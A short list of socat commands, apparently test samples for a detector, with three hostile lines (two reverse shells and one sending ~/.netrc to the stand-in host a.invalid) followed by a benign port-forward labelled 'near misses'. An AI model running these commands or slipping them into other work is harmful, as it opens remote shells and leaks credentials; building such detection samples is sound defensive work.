socat TCP:a.invalid:4444 EXEC:/bin/sh
socat openssl-connect:a.invalid:443 exec:'bash -li',pty
socat - TCP:a.invalid:80 < ~/.netrc
# near misses
socat TCP-LISTEN:8080,fork TCP:localhost:3000
